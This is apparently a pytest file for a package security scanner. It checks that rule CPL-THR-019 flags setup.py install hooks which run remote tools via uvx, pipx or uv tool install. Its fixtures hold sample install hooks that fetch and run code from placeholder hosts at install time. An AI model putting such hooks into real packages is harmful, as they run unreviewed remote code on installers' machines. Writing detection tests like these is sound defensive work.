"""pip and Python's package runners run from code (``_scan._sink_pip``, CPL-THR-019):
blind17's install hook that runs a tool fetched from a git URL with ``uvx``/``pipx``."""

from __future__ import annotations

import textwrap
from pathlib import Path

import pytest

from caplet._findings import Severity
from caplet._scan._model import ScanMode
from caplet._scan._scanner import scan_source
from caplet._scan._sink_pip import installs_other
from tests._scan.prefilterkit import found_in_file


def danger(source: str, filename: str = "setup.py") -> set[str]:
    findings = scan_source(textwrap.dedent(source), filename, mode=ScanMode.PACKAGE)
    return {f.rule_id for f in findings if f.severity is Severity.DANGER}


#: tune b17-dr-uvx-git-spec, and the runners' other spellings.
FETCHED = [
    "import subprocess\nfrom setuptools import setup\n"
    "subprocess.run(['uvx', '--from', 'git+https://git.example/t/agent@main', 'agent'])\nsetup()\n",
    "import os\nfrom setuptools import setup\n"
    "os.system('pipx run --spec https://files.example/agent-1.0.tar.gz agent --fix')\nsetup()\n",
    "import subprocess\nfrom setuptools import setup\n"
    "subprocess.check_call(['uv', 'tool', 'install', "
    "'git+https://git.example/t/agent'])\nsetup()\n",
]


@pytest.mark.parametrize("source", FETCHED)
def test_a_package_runner_given_a_url_at_install_is_another_package_pulled_in(
    source: str,
) -> None:
    assert "CPL-THR-019" in danger(source)


@pytest.mark.parametrize("source", FETCHED)
def test_a_runner_given_a_url_is_found_with_the_prefilter_too(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str
) -> None:
    found_in_file(tmp_path, monkeypatch, "setup.py", source, "CPL-THR-019")


@pytest.mark.parametrize(
    "words",
    [
        ["uvx", "ruff", "check", "."],
        ["pipx", "run", "build"],
        ["uv", "pip", "install", "-e", "."],
        ["git", "clone", "https://github.com/org/repo"],
        ["echo", "uvx", "--from", "git+https://x.example/y"],
    ],
)
def test_runners_given_names_and_urls_given_other_programs_are_not_fetched_tools(
    words: list[str],
) -> None:
    assert not installs_other(words)
